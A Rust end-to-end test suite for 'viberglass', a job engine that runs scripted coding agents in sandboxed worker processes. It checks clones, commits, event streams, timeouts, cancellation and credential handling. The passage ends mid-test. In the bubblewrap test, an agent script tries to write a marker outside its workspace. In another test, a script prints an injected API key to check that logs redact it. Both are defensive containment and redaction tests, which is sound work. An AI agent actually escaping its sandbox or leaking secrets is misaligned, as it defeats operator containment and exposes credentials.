//! The job engine end to end: real server, real `viberglass worker`
//! processes on the local compute target, real git repositories.

use std::time::{Duration, Instant};

use serde_json::{Value, json};
use viberglass_testkit::forge::ServedRepo;
use viberglass_testkit::{TestApp, TestBackend};

const BINARY: &str = env!("CARGO_BIN_EXE_viberglass");

/// A server on `backend` whose dispatcher and reaper run fast, with workers
/// that heartbeat every second; later `.env` calls override these.
fn fast(backend: TestBackend) -> viberglass_testkit::app::TestAppBuilder {
    TestApp::builder(backend).fast_engine(BINARY)
}

async fn app(backend: TestBackend, grace_secs: u32) -> TestApp {
    fast(backend).env("VIBERGLASS_HEARTBEAT_GRACE_SECS", &grace_secs.to_string()).spawn().await
}

struct Setup {
    ticket: String,
}

/// A project on `repo_url`, a started command clanker running `script`, and a ticket.
async fn setup(app: &TestApp, repo_url: &str, script: &str, max_execution_secs: u32) -> Setup {
    app.create_project(json!({"name": "Shop", "repository_url": repo_url, "max_execution_secs": max_execution_secs, "planning_needs_approval": false}))
        .await;
    let clanker = app
        .post_json(
            "/api/v1/clankers",
            &json!({
                "shared": true, "name": "Scripted",
                "agent": "command",
                "agent_settings": {"command": ["sh", "-c", script]},
                "max_concurrent_jobs": 10,
                "instruction_files": [{"path": "AGENTS.md", "content": "Keep it small."}],
            }),
        )
        .await;
    assert_eq!(clanker.status(), 201, "{}", clanker.text().await.unwrap());
    let started: Value = app.post_json("/api/v1/clankers/scripted/start", &json!({})).await.json().await.unwrap();
    assert_eq!(started["status"], "active", "{started}");
    let ticket = app.create_ticket("shop", json!({"title": "Fix the readme"})).await;
    Setup { ticket: ticket["id"].as_str().unwrap().to_owned() }
}

async fn run(app: &TestApp, setup: &Setup, phase: &str) -> String {
    let response = app
        .post_json(&format!("/api/v1/tickets/{}/runs", setup.ticket), &json!({"phase": phase, "clanker": "scripted"}))
        .await;
    assert_eq!(response.status(), 202, "{}", response.text().await.unwrap());
    let job: Value = response.json().await.unwrap();
    job["id"].as_str().unwrap().to_owned()
}

async fn job(app: &TestApp, id: &str) -> Value {
    app.get(&format!("/api/v1/jobs/{id}")).await.json().await.unwrap()
}

/// Waits until the job's status is one of `statuses`.
async fn wait_for(app: &TestApp, id: &str, statuses: &[&str], within: Duration) -> Value {
    let deadline = Instant::now() + within;
    loop {
        let job = job(app, id).await;
        if statuses.contains(&job["status"].as_str().unwrap_or_default()) {
            return job;
        }
        assert!(Instant::now() < deadline, "job not {statuses:?} within {within:?}: {job}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// The worker's pid, from its compute ref `local:<host>:<pid>:<start>`.
fn pid_of(job: &Value) -> u32 {
    let compute_ref = job["compute_ref"].as_str().expect("a local worker");
    let fields: Vec<&str> = compute_ref.split(':').collect();
    assert_eq!(fields.len(), 4, "local:<host>:<pid>:<start>, got {compute_ref}");
    fields[2].parse().expect("a pid")
}

/// Whether any process of the worker's process group still runs.
fn group_alive(pid: u32) -> bool {
    std::process::Command::new("kill")
        .args(["-0", "--", &format!("-{pid}")])
        .stderr(std::process::Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

async fn wait_until_gone(pid: u32, within: Duration) {
    let deadline = Instant::now() + within;
    while group_alive(pid) {
        assert!(Instant::now() < deadline, "worker process group {pid} still runs after {within:?}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// Reads the job's SSE stream from `last_event_id` to its `end` event: (id, event, data) triples.
async fn read_stream(app: &TestApp, id: &str, last_event_id: Option<i64>) -> Vec<(i64, String, Value)> {
    let mut request = app.client.get(app.url(&format!("/api/v1/jobs/{id}/events/stream")));
    if let Some(last) = last_event_id {
        request = request.header("Last-Event-ID", last.to_string());
    }
    let text = request.send().await.unwrap().text().await.unwrap();
    let mut frames = Vec::new();
    for block in text.split("\n\n") {
        let (mut event_id, mut event, mut data) = (0, String::new(), Value::Null);
        for line in block.lines() {
            if let Some(v) = line.strip_prefix("id: ").or_else(|| line.strip_prefix("id:")) {
                event_id = v.trim().parse().unwrap_or(0);
            } else if let Some(v) = line.strip_prefix("event: ").or_else(|| line.strip_prefix("event:")) {
                event = v.trim().to_owned();
            } else if let Some(v) = line.strip_prefix("data: ").or_else(|| line.strip_prefix("data:")) {
                data = serde_json::from_str(v.trim()).unwrap_or(Value::Null);
            }
        }
        if !event.is_empty() {
            frames.push((event_id, event, data));
        }
    }
    frames
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_execution_run_clones_runs_the_agent_and_commits_new_files_too() {
    let app = app(TestBackend::Sqlite, 30).await;
    let repo = ServedRepo::with_files(&[("README.md", "# Shop\n")]).await;
    let script = "echo 'Fixed.' >> README.md && echo 'brand new' > NEW.md && echo 'Fix the readme' > PR_TITLE.md \
                  && test -f AGENTS.md && echo agent-says-hello";
    let setup = setup(&app, &repo.url(), script, 600).await;
    let id = run(&app, &setup, "execution").await;
    let done = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(60)).await;
    assert_eq!(done["status"], "completed", "{done}");
    let files: Vec<(String, String)> = done["result"]["changed_files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["status"].as_str().unwrap().to_owned(), f["path"].as_str().unwrap().to_owned()))
        .collect();
    assert_eq!(
        files,
        [("A".to_owned(), "NEW.md".to_owned()), ("M".to_owned(), "README.md".to_owned())],
        "instruction and PR files are never committed"
    );
    let branch = done["result"]["branch"].as_str().unwrap().to_owned();
    assert!(branch.starts_with("viberglass/"));
    // The commit left the worker: it is on the remote's branch, titled from PR_TITLE.md.
    assert_eq!(done["result"]["pushed"], true);
    let log = repo.git(&["log", "--format=%s%n%b", &branch]);
    assert!(log.starts_with("Fix the readme\n"), "{log}");
    assert!(log.contains(&format!("Viberglass-Job: {id}")), "{log}");
    assert_eq!(done["status_message"].as_str().unwrap().split(' ').next(), Some("committed"));

    // Progress and logs arrive in order over SSE, then the stream ends.
    let frames = read_stream(&app, &id, None).await;
    let ids: Vec<i64> = frames.iter().filter(|f| f.0 > 0).map(|f| f.0).collect();
    assert!(ids.windows(2).all(|w| w[0] < w[1]), "event ids increase: {ids:?}");
    let messages: Vec<&str> = frames.iter().filter_map(|f| f.2["message"].as_str()).collect();
    let position = |needle: &str| {
        messages.iter().position(|m| m.contains(needle)).unwrap_or_else(|| panic!("no `{needle}` in {messages:#?}"))
    };
    assert!(position("queued") < position("cloning"));
    assert!(position("cloning") < position("running the agent"));
    assert!(position("running the agent") < position("agent-says-hello"));
    assert!(position("agent-says-hello") < position("committing"));
    assert!(position("committing") < position("completed: committed"));
    assert_eq!(frames.last().unwrap().1, "end");

    // Resuming after the third event replays from the fourth, without repeats.
    let resumed = read_stream(&app, &id, Some(ids[2])).await;
    let resumed_ids: Vec<i64> = resumed.iter().filter(|f| f.0 > 0).map(|f| f.0).collect();
    assert_eq!(resumed_ids, ids[3..]);

    // The checkout is gone; the worker's own log stays, every line tagged with the job.
    let workspace = app.db.data_dir().unwrap().join("workspaces").join(&id);
    assert!(!workspace.join("repo").exists(), "the checkout is removed after a successful run");
    let log = std::fs::read_to_string(workspace.join("worker.log")).unwrap();
    assert!(log.lines().count() >= 3, "{log}");
    for line in log.lines() {
        let line: Value = serde_json::from_str(line).unwrap_or_else(|_| panic!("a JSON log line: {line}"));
        assert_eq!(viberglass_testkit::logs::field(&line, "job_id"), id.as_str(), "{line}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_worker_that_cannot_start_fails_the_job_in_the_dispatch_layer() {
    let app = fast(TestBackend::Sqlite).env("VIBERGLASS_WORKER_BINARY", "/nonexistent/viberglass").spawn().await;
    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
    app.create_project(json!({"name": "Shop", "repository_url": repo.url(), "planning_needs_approval": false})).await;
    app.post_json(
        "/api/v1/clankers",
        &json!({"shared": true, "name": "Scripted", "agent": "command", "agent_settings": {"command": ["true"]}}),
    )
    .await;
    // Starting reports the missing binary in the clanker's status.
    let started: Value = app.post_json("/api/v1/clankers/scripted/start", &json!({})).await.json().await.unwrap();
    assert_eq!(started["status"], "failed");
    assert!(started["status_message"].as_str().unwrap().contains("/nonexistent/viberglass"), "{started}");

    // A job queued for it anyway is failed by the dispatcher with the target's own words.
    let project = app.store.get_project_by_slug(&viberglass_domain::ProjectSlug::parse("shop").unwrap()).await.unwrap();
    let clanker =
        app.store.get_clanker_by_slug(&viberglass_domain::ProjectSlug::parse("scripted").unwrap()).await.unwrap();
    let spec = viberglass_domain::JobSpec {
        phase: viberglass_domain::Phase::Execution,
        repository_url: repo.url(),
        base_branch: "main".into(),
        branch: "viberglass/x".into(),
        prompt: "p".into(),
        harness: clanker.harness().unwrap(),
        instruction_files: Vec::new(),
        max_execution_secs: 60,
        heartbeat_interval_secs: 1,
        heartbeat_grace_secs: 30,
        keep_workspace_on_failure: false,
        ticket_title: "t".into(),
        secret_names: Vec::new(),
        clanker_name: "c".into(),
        scm: None,
        commit_author: Default::default(),
        agent_silence_secs: 300,
        traceparent: None,
    };
    let queued = app
        .store
        .create_job(viberglass_store::NewJob {
            id: viberglass_domain::JobId::new(),
            project_id: project.id,
            ticket_id: None,
            clanker_id: Some(clanker.id),
            spec,
            requested_by: None,
            request_id: None,
        })
        .await
        .unwrap();
    let failed = wait_for(&app, &queued.id.to_string(), &["failed"], Duration::from_secs(10)).await;
    assert_eq!(failed["failure"]["layer"], "dispatch", "{failed}");
    assert!(failed["failure"]["detail"].as_str().unwrap().contains("/nonexistent/viberglass"), "{failed}");
    assert!(failed["status_message"].as_str().unwrap().contains("compute target could not start the worker"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn research_uploads_its_document_and_a_missing_document_fails_clearly() {
    let app = app(TestBackend::Sqlite, 30).await;
    let repo = ServedRepo::with_files(&[("README.md", "# Shop\n")]).await;
    let setup =
        setup(&app, &repo.url(), "test \"$VIBERGLASS_PHASE\" = research && printf '# Findings\\n' > RESEARCH.md", 600)
            .await;
    let id = run(&app, &setup, "research").await;
    let done = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(60)).await;
    assert_eq!(done["status"], "completed", "{done}");
    assert_eq!(done["result"], json!({"document": "RESEARCH.md", "revision": 1}));
    let (content, revision) = app
        .store
        .phase_document(setup.ticket.parse().unwrap(), viberglass_domain::Phase::Research)
        .await
        .unwrap()
        .unwrap();
    assert_eq!((content.as_str(), revision), ("# Findings\n", 1));

    // Planning with the same script writes no PLAN.md.
    let id = run(&app, &setup, "planning").await;
    let failed = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(60)).await;
    assert_eq!(failed["status"], "failed");
    assert_eq!(failed["failure"]["code"], "agent_exited_nonzero", "{failed}");

    // The metrics count both: one launch each, a completed and a failed run, the failure under its layer.
    let text = app.get("/metrics").await.text().await.unwrap();
    let samples = viberglass_testkit::metrics::parse(&text).unwrap_or_else(|e| panic!("{e}\n{text}"));
    let value = |name: &str, labels: &[(&str, &str)]| viberglass_testkit::metrics::value(&samples, name, labels);
    for phase in ["research", "planning"] {
        let labels = [("phase", phase), ("target", "local")];
        assert_eq!(value("viberglass_job_dispatch_seconds_count", &labels), Some(1.0), "{phase}: {text}");
    }
    let research = [("phase", "research"), ("target", "local"), ("outcome", "completed")];
    assert_eq!(value("viberglass_job_duration_seconds_count", &research), Some(1.0), "{text}");
    let planning = [("phase", "planning"), ("target", "local"), ("outcome", "failed")];
    assert_eq!(value("viberglass_job_duration_seconds_count", &planning), Some(1.0), "{text}");
    let took = value("viberglass_job_duration_seconds_sum", &planning).unwrap();
    assert!(took > 0.0 && took < 60.0, "the run's seconds: {took}");
    let layer = failed["failure"]["layer"].as_str().unwrap();
    assert_eq!(value("viberglass_job_failures_total", &[("phase", "planning"), ("layer", layer)]), Some(1.0));
    assert_eq!(value("viberglass_job_failures_total", &[("phase", "research")]), None, "research did not fail");
    assert_eq!(value("viberglass_jobs", &[("status", "failed")]), Some(1.0), "the queue by status: {text}");
    let consumers: Vec<&str> = samples
        .iter()
        .filter(|s| s.name == "viberglass_outbox_lag_seconds")
        .filter_map(|s| s.label("consumer"))
        .collect();
    assert!(!consumers.is_empty(), "the outbox consumers' lag is reported: {text}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_worker_killed_mid_run_fails_the_job_at_once_and_its_agent_is_stopped() {
    // A long heartbeat grace: the failure must come from the compute target seeing the exit, not from silence.
    let app = app(TestBackend::Sqlite, 120).await;
    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
    let setup = setup(&app, &repo.url(), "sleep 120", 600).await;
    let id = run(&app, &setup, "execution").await;
    let active = wait_for(&app, &id, &["active"], Duration::from_secs(30)).await;
    let pid = pid_of(&active);
    wait_for_progress(&app, &id, "running the agent").await;
    let killed_at = Instant::now();
    // Only the worker: its agent (`sleep 120`, same process group) lives on until the server stops it.
    std::process::Command::new("kill").args(["-KILL", &pid.to_string()]).status().unwrap();
    let failed = wait_for(&app, &id, &["failed", "completed"], Duration::from_secs(15)).await;
    assert!(killed_at.elapsed() <= Duration::from_secs(15), "failed at once, not after the 120 s grace");
    assert_eq!(failed["status"], "failed");
    assert_eq!(
        (failed["failure"]["layer"].as_str(), failed["failure"]["code"].as_str()),
        (Some("heartbeat"), Some("worker_exited"))
    );
    assert!(failed["status_message"].as_str().unwrap().starts_with("the worker process exited"), "{failed}");
    assert!(!failed["failure"]["detail"].as_str().unwrap().is_empty(), "the log tail: {failed}");
    wait_until_gone(pid, Duration::from_secs(5)).await;
}

async fn wait_for_progress(app: &TestApp, id: &str, step: &str) {
    let deadline = Instant::now() + Duration::from_secs(30);
    while job(app, id).await["progress_step"].as_str() != Some(step) {
        assert!(Instant::now() < deadline, "never reached `{step}`");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cancel_stops_the_worker_within_five_seconds() {
    let app = app(TestBackend::Sqlite, 30).await;
    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
    let setup = setup(&app, &repo.url(), "sleep 120", 600).await;
    let id = run(&app, &setup, "execution").await;
    let active = wait_for(&app, &id, &["active"], Duration::from_secs(30)).await;
    let pid = pid_of(&active);
    wait_for_progress(&app, &id, "running the agent").await;
    let response = app.post_json(&format!("/api/v1/jobs/{id}/cancel"), &json!({})).await;
    assert_eq!(response.status(), 200);
    let cancelled: Value = response.json().await.unwrap();
    assert_eq!(cancelled["status"], "cancelled");
    assert_eq!(cancelled["cancelled_by"], viberglass_testkit::app::ADMIN_EMAIL, "the real user is recorded");
    wait_until_gone(pid, Duration::from_secs(5)).await;
    let again = app.post_json(&format!("/api/v1/jobs/{id}/cancel"), &json!({})).await;
    assert_eq!(again.status(), 409);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_run_past_the_max_execution_time_is_stopped_with_the_limit_message() {
    let app = app(TestBackend::Sqlite, 30).await;
    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
    let setup = setup(&app, &repo.url(), "sleep 60", 30).await;
    let id = run(&app, &setup, "execution").await;
    let active = wait_for(&app, &id, &["active"], Duration::from_secs(30)).await;
    let pid = pid_of(&active);
    let failed = wait_for(&app, &id, &["failed", "completed"], Duration::from_secs(45)).await;
    assert_eq!(failed["failure"]["layer"], "timeout", "{failed}");
    let message = failed["status_message"].as_str().unwrap();
    assert!(message.contains("30 s") && message.contains("max_execution_secs"), "{message}");
    // Lists read the stored status: the reaper keeps it in step.
    let listed: Value = app.get("/api/v1/tickets?project=shop").await.json().await.unwrap();
    assert_eq!(listed["items"][0]["status"], "failed", "{listed}");
    wait_until_gone(pid, Duration::from_secs(5)).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_long_run_that_heartbeats_is_never_failed_for_being_long() {
    let app = app(TestBackend::Sqlite, 20).await;
    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
    let setup = setup(&app, &repo.url(), "sleep 180 && echo done >> README.md", 600).await;
    let id = run(&app, &setup, "execution").await;
    let done = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(240)).await;
    assert_eq!(done["status"], "completed", "{done}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cloning_a_missing_repository_fails_in_the_clone_layer() {
    let app = fast(TestBackend::Sqlite)
        .env("VIBERGLASS_HEARTBEAT_GRACE_SECS", "30")
        .env("VIBERGLASS_ALLOW_LOCAL_REPOSITORIES", "true")
        .spawn()
        .await;
    let setup = setup(&app, "file:///nonexistent/nothing-here.git", "true", 600).await;
    let id = run(&app, &setup, "execution").await;
    let failed = wait_for(&app, &id, &["failed", "completed"], Duration::from_secs(60)).await;
    assert_eq!(failed["failure"]["layer"], "clone", "{failed}");
    assert_eq!(failed["failure"]["code"], "repository_not_found");
    assert!(failed["status_message"].as_str().unwrap().contains("does not exist"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rerun_is_a_new_attempt_that_runs_again() {
    let app = app(TestBackend::Sqlite, 30).await;
    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
    let setup = setup(&app, &repo.url(), "echo more >> README.md", 600).await;
    let first = run(&app, &setup, "execution").await;
    wait_for(&app, &first, &["completed"], Duration::from_secs(60)).await;
    let response = app.post_json(&format!("/api/v1/jobs/{first}/rerun"), &json!({})).await;
    assert_eq!(response.status(), 202);
    let second: Value = response.json().await.unwrap();
    assert_eq!((second["attempt"].as_u64(), second["retry_of"].as_str()), (Some(2), Some(first.as_str())));
    let done = wait_for(&app, second["id"].as_str().unwrap(), &["completed", "failed"], Duration::from_secs(60)).await;
    assert_eq!(done["status"], "completed", "{done}");
    // The re-run continued the branch the first run pushed: both commits are on it.
    let branch = done["result"]["branch"].as_str().unwrap();
    let commits = repo.git(&["rev-list", "--count", branch]);
    assert_eq!(commits.trim(), "3", "the initial commit and one per run");
    let listed: Value = app.get(&format!("/api/v1/jobs?ticket={}", setup.ticket)).await.json().await.unwrap();
    assert_eq!(listed["items"].as_array().unwrap().len(), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_run_needs_a_started_clanker_and_a_repository() {
    let app = app(TestBackend::Sqlite, 30).await;
    app.create_project(json!({"name": "Bare"})).await;
    app.post_json(
        "/api/v1/clankers",
        &json!({"shared": true, "name": "Idle", "agent": "command", "agent_settings": {"command": ["true"]}}),
    )
    .await;
    let ticket = app.create_ticket("bare", json!({"title": "x"})).await;
    let path = format!("/api/v1/tickets/{}/runs", ticket["id"].as_str().unwrap());
    let not_started: Value =
        app.post_json(&path, &json!({"phase": "research", "clanker": "idle"})).await.json().await.unwrap();
    assert_eq!(not_started["code"], "clanker_not_started", "{not_started}");
    app.post_json("/api/v1/clankers/idle/start", &json!({})).await;
    let no_repo: Value =
        app.post_json(&path, &json!({"phase": "research", "clanker": "idle"})).await.json().await.unwrap();
    assert_eq!(no_repo["code"], "project_has_no_repository", "{no_repo}");
    let bad_phase = app.post_json(&path, &json!({"phase": "deploy", "clanker": "idle"})).await;
    assert_eq!(bad_phase.status(), 400);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn clone_credentials_come_from_secrets_and_each_clone_failure_says_which_it_is() {
    let forge = viberglass_testkit::forge::GitHttpServer::start(Some(("x-access-token", "good-token-123"))).await;
    let shop = forge.add_repo("shop", &[("README.md", "# Shop\n")]);
    let app = fast(TestBackend::Sqlite)
        .env("VG_TEST_GOOD_TOKEN", "good-token-123")
        .env("VG_TEST_BAD_TOKEN", "revoked-token-456")
        .spawn()
        .await;
    for (name, reference) in
        [("GOOD", "VG_TEST_GOOD_TOKEN"), ("BAD", "VG_TEST_BAD_TOKEN"), ("UNSET", "VG_TEST_NOT_SET")]
    {
        let response = app.post_json("/api/v1/secrets", &json!({"name": name, "reference": reference})).await;
        assert_eq!(response.status(), 201);
    }
    let listed = app.get("/api/v1/secrets").await.text().await.unwrap();
    assert!(!listed.contains("good-token-123"), "secret values are never returned");
    let missing_secret = app.post_json("/api/v1/projects", &json!({"name": "X", "credential_secret": "NOPE"})).await;
    assert_eq!(missing_secret.status(), 422, "well formed, naming a secret that does not exist yet");

    app.post_json(
        "/api/v1/clankers",
        &json!({"shared": true, "name": "Scripted", "agent": "command", "agent_settings": {"command": ["sh", "-c", "echo changed >> README.md"]}}),
    )
    .await;
    app.post_json("/api/v1/clankers/scripted/start", &json!({})).await;
    let run_with = |name: &'static str, url: String, secret: &'static str| {
        let app = &app;
        async move {
            app.create_project(json!({"name": name, "repository_url": url, "credential_secret": secret, "planning_needs_approval": false})).await;
            let ticket = app.create_ticket(&name.to_lowercase(), json!({"title": "Fix"})).await;
            let path = format!("/api/v1/tickets/{}/runs", ticket["id"].as_str().unwrap());
            let job: Value =
                app.post_json(&path, &json!({"phase": "execution", "clanker": "scripted"})).await.json().await.unwrap();
            wait_for(app, job["id"].as_str().unwrap(), &["completed", "failed"], Duration::from_secs(60)).await
        }
    };

    let refused = run_with("Refused", shop.clone(), "BAD").await;
    assert_eq!(
        (refused["failure"]["layer"].as_str(), refused["failure"]["code"].as_str()),
        (Some("clone"), Some("clone_authentication_failed")),
        "{refused}"
    );
    assert!(refused["status_message"].as_str().unwrap().contains("credential was refused"), "{refused}");

    let missing = run_with("Missing", forge.url("nothing-here"), "GOOD").await;
    assert_eq!(
        (missing["failure"]["layer"].as_str(), missing["failure"]["code"].as_str()),
        (Some("clone"), Some("repository_not_found")),
        "{missing}"
    );

    let unset = run_with("Unset", shop.clone(), "UNSET").await;
    assert_eq!(unset["failure"]["layer"], "secrets", "{unset}");
    assert!(unset["status_message"].as_str().unwrap().contains("VG_TEST_NOT_SET"), "{unset}");

    let cloned = run_with("Cloned", shop, "GOOD").await;
    assert_eq!(cloned["status"], "completed", "{cloned}");
    // The token reaches git only through askpass: never in logs or events.
    for job in [&refused, &missing, &cloned] {
        let events = app
            .get(&format!("/api/v1/jobs/{}/events?limit=1000", job["id"].as_str().unwrap()))
            .await
            .text()
            .await
            .unwrap();
        assert!(
            !events.contains("good-token-123") && !events.contains("revoked-token-456"),
            "a token leaked into events"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn with_bubblewrap_installed_the_agent_can_write_only_its_workspace() {
    let installed = std::process::Command::new("bwrap").arg("--version").output().is_ok_and(|o| o.status.success());
    if !installed {
        assert!(std::env::var("CI").is_err(), "bubblewrap must be installed under CI (scripts/test installs it)");
        eprintln!("note: bubblewrap is not installed; skipping the sandbox test");
        return;
    }
    let marker = format!("/var/tmp/viberglass-escape-{}", uuid_like());
    let app = app(TestBackend::Sqlite, 30).await;
    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
    let script = format!(
        "(touch {marker} 2>/dev/null && echo ESCAPED) ; echo private > /tmp/mine && echo changed >> README.md && echo host=$(hostname)"
    );
    let setup = setup(&app, &repo.url(), &script, 600).await;
    let clanker: Value = app.get("/api/v1/clankers/scripted").await.json().await.unwrap();
    assert!(clanker["status_message"].as_str().unwrap().contains("sandboxed with bubblewrap"), "{clanker}");
    let id = run(&app, &setup, "execution").await;
    let done = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(60)).await;
    assert_eq!(done["status"], "completed", "{done}");
    assert!(!std::path::Path::new(&marker).exists(), "the agent wrote outside its workspace");
    let events = app.get(&format!("/api/v1/jobs/{id}/events?limit=1000")).await.text().await.unwrap();
    assert!(!events.contains("ESCAPED"));
    assert!(events.contains("host=viberglass-worker"), "the worker runs in its own UTS namespace");
}

fn uuid_like() -> String {
    format!("{}-{}", std::process::id(), Instant::now().elapsed().as_nanos())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn clanker_secrets_reach_the_agent_and_never_the_logs() {
    let app = fast(TestBackend::Sqlite).env("VG_TEST_API_KEY", "sk-test-abcdef123456").spawn().await;
    app.post_json("/api/v1/secrets", &json!({"name": "API_KEY", "reference": "VG_TEST_API_KEY"})).await;
    app.post_json("/api/v1/secrets", &json!({"name": "UNSET_KEY", "reference": "VG_TEST_NOT_SET_EITHER"})).await;
    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
    let setup = setup(&app, &repo.url(), "echo \"the key is $API_KEY\" && echo changed >> README.md", 600).await;
    let unknown = app.patch_json("/api/v1/clankers/scripted", &json!({"secrets": ["NOPE"]})).await;
    assert_eq!(unknown.status(), 422);
    assert!(unknown.text().await.unwrap().contains("unknown_reference"));
    let patched = app.patch_json("/api/v1/clankers/scripted", &json!({"secrets": ["API_KEY"]})).await;
    assert_eq!(patched.status(), 200);

    let id = run(&app, &setup, "execution").await;
    let done = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(60)).await;
    assert_eq!(done["status"], "completed", "{done}");
    let events = app.get(&format!("/api/v1/jobs/{id}/events?limit=1000")).await.text().await.unwrap();
    assert!(events.contains("the key is ***"), "the agent saw the key and the log shows it redacted: {events}");
    assert!(!events.contains("sk-test-abcdef123456"));
    let streamed = read_stream(&app, &id, None).await;
    assert!(streamed.iter().all(|f| !f.2.to_string().contains("sk-test-abcdef123456")));

    // A secret without a value fails the run in the secrets layer, naming the secret, the clanker and the fix.
    app.patch_json("/api/v1/clankers/scripted", &json!({"secrets": ["API_KEY", "UNSET_KEY"]})).await;
    let id = run(&app, &setup, "execution").await;
    let failed = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(60)).await;
    assert_eq!(failed["failure"]["layer"], "secrets", "{failed}");
    let message = failed["status_message"].as_str().unwrap();
    assert!(
        message.contains("UNSET_KEY")
            && message.contains("clanker scripted")
            && message.contains("VG_TEST_NOT_SET_EITHER"),
        "{message}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_worker_that_dies_before_reporting_fails_fast_with_its_last_log_lines() {
    let dir = tempfile::Builder::new().prefix("viberglass-fake-worker-").tempdir_in("/var/tmp").unwrap();
    let script = dir.path().join("broken-worker");
    // It passes Start's self-check, then dies on its first job.
    std::fs::write(
        &script,
        "#!/bin/sh\nif [ \"$2\" = --self-check ]; then echo 'viberglass worker ok'; exit 0; fi\n\
         echo 'fatal: cannot open the sandbox (demo)' >&2\nexit 3\n",
    )
    .unwrap();
    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let app = fast(TestBackend::Sqlite)
        .env("VIBERGLASS_WORKER_BINARY", script.to_str().unwrap())
        .env("VIBERGLASS_HEARTBEAT_GRACE_SECS", "120")
        .spawn()
        .await;
    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
    let setup = setup(&app, &repo.url(), "true", 600).await;
    let id = run(&app, &setup, "execution").await;
    let started = Instant::now();
    let failed = wait_for(&app, &id, &["failed"], Duration::from_secs(15)).await;
    assert!(started.elapsed() < Duration::from_secs(15), "not after the 120 s grace");
    assert_eq!(failed["failure"]["code"], "worker_exited_at_start", "{failed}");
    assert!(failed["failure"]["detail"].as_str().unwrap().contains("cannot open the sandbox (demo)"), "{failed}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failed_runs_checkout_is_kept_only_when_the_setting_asks() {
    for keep in [true, false] {
        let app = fast(TestBackend::Sqlite)
            .env("VIBERGLASS_KEEP_FAILED_WORKSPACES", if keep { "true" } else { "false" })
            .spawn()
            .await;
        let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
        let setup = setup(&app, &repo.url(), "echo partial > WIP.md && exit 4", 600).await;
        let id = run(&app, &setup, "execution").await;
        let failed = wait_for(&app, &id, &["failed"], Duration::from_secs(60)).await;
        assert_eq!(failed["failure"]["code"], "agent_exited_nonzero", "{failed}");
        let checkout = app.db.data_dir().unwrap().join("workspaces").join(&id).join("repo");
        // The worker cleans up after reporting; give it a moment to exit.
        let deadline = Instant::now() + Duration::from_secs(10);
        while !keep && checkout.exists() && Instant::now() < deadline {
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        assert_eq!(checkout.join("WIP.md").exists(), keep, "keep={keep}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn start_without_bubblewrap_says_how_to_fix_it_instead_of_running_unsandboxed() {
    let app = fast(TestBackend::Sqlite).env("VIBERGLASS_BWRAP", "/nonexistent/bwrap").spawn().await;
    app.post_json(
        "/api/v1/clankers",
        &json!({"shared": true, "name": "Scripted", "agent": "command", "agent_settings": {"command": ["true"]}}),
    )
    .await;
    let started: Value = app.post_json("/api/v1/clankers/scripted/start", &json!({})).await.json().await.unwrap();
    assert_eq!(started["status"], "failed", "{started}");
    let message = started["status_message"].as_str().unwrap();
    assert!(
        message
            .contains("bubblewrap is not installed: install the `bubblewrap` package, or set VIBERGLASS_SANDBOX=none"),
        "{message}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_worker_binary_under_tmp_passes_start_and_runs_in_the_sandbox() {
    // The sandbox's private /tmp would hide it; Start's self-check proves it is bound in.
    let dir = tempfile::Builder::new().prefix("viberglass-bin-").tempdir_in("/tmp").unwrap();
    let binary = dir.path().join("viberglass");
    std::fs::copy(BINARY, &binary).unwrap();
    let app = fast(TestBackend::Sqlite)
        .env("VIBERGLASS_WORKER_BINARY", binary.to_str().unwrap())
        .env("VIBERGLASS_HEARTBEAT_GRACE_SECS", "30")
        .spawn()
        .await;
    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
    let setup = setup(&app, &repo.url(), "echo changed >> README.md", 600).await;
    let clanker: Value = app.get("/api/v1/clankers/scripted").await.json().await.unwrap();
    assert_eq!(clanker["status"], "active", "{clanker}");
    assert!(clanker["status_message"].as_str().unwrap().contains("self-check"), "{clanker}");
    let id = run(&app, &setup, "execution").await;
    let done = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(60)).await;
